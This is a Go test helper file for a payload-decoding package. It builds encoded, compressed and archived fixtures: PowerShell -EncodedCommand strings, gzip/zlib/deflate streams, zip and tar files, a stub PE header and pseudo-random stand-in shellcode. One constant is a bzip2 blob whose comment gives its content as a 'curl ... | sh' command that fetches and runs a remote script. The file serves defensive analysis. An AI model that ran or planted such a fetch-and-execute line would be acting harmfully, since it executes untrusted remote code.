package decode

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"
)

// Builders for real-looking test payloads.

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// utf16le encodes s as PowerShell's -EncodedCommand expects.
func utf16le(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

// psEnc is the -EncodedCommand argument for script.
func psEnc(script string) string { return b64(utf16le(script)) }

func gz(t testing.TB, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func zlibbed(t testing.TB, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zlib.NewWriter(&buf)
	w.Write(b)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// deflated is a raw deflate stream, as PowerShell's DeflateStream writes.
func deflated(t testing.TB, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	w.Write(b)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

type file struct {
	name string
	data []byte
}

func zipOf(t testing.TB, files ...file) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, f := range files {
		fw, err := w.Create(f.name)
		if err != nil {
			t.Fatal(err)
		}
		fw.Write(f.data)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func tarOf(t testing.TB, files ...file) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := tar.NewWriter(&buf)
	for _, f := range files {
		if err := w.WriteHeader(&tar.Header{Name: f.name, Mode: 0o644, Size: int64(len(f.data)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		w.Write(f.data)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// fakePE is a minimal image with an MZ header whose e_lfanew points to a
// PE signature: what the magic check needs, padded to size bytes.
func fakePE(size int) []byte {
	b := make([]byte, size)
	copy(b, "MZ\x90\x00\x03")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00\x4c\x01")
	copy(b[0x4e:], "This program cannot be run in DOS mode.")
	return b
}

// shellcode is a deterministic stand-in for x86 shellcode bytes.
func shellcode(n int) []byte {
	b := make([]byte, n)
	x := uint32(0xfce88200)
	for i := range b {
		x = x*1664525 + 1013904223
		b[i] = byte(x >> 24)
	}
	return b
}

func escapedHexOf(b []byte) string {
	var sb strings.Builder
	for _, c := range b {
		fmt.Fprintf(&sb, `\x%02x`, c)
	}
	return sb.String()
}

func hexListOf(b []byte) string {
	parts := make([]string, len(b))
	for i, c := range b {
		parts[i] = fmt.Sprintf("0x%x", c)
	}
	return strings.Join(parts, ",")
}

// bzip2Script is `#!/bin/sh\ncurl -fsSL http://203.0.113.50/x.sh | sh\n`
// compressed with bzip2 (the standard library only reads bzip2).
const bzip2Script = "QlpoOTFBWSZTWf0UmWQAAAPfgAAQaAP6EAAECAAZZV5EIABIw2p5INNqPU0Y1P1QoABoAAGwooKJpOWQ6nKqKzQaJwK1HRfCx59d/gE24OwzP4u5IpwoSH6KTLIA"

// summary renders steps compactly: "d1 p-1 base64>utf16le text: ...",
// "d2 p0 zip>... pe 4096 sha256:abcd1234", with member names and limits.
func summary(steps []Step) []string {
	var out []string
	for _, s := range steps {
		line := fmt.Sprintf("d%d p%d %s %s", s.Depth, s.Parent, strings.Join(s.Chain, ">"), s.FileType)
		if s.Member != "" {
			line += " member=" + s.Member
		}
		if s.Text != "" {
			line += ": " + s.Text
		} else if s.SHA256 != "" {
			line += fmt.Sprintf(" %d bytes sha256:%.8s", s.Size, s.SHA256)
		}
		if s.Limit != "" {
			line += " LIMIT " + s.Limit
		}
		if s.Error != "" {
			line += " ERROR " + s.Error
		}
		out = append(out, line)
	}
	return out
}
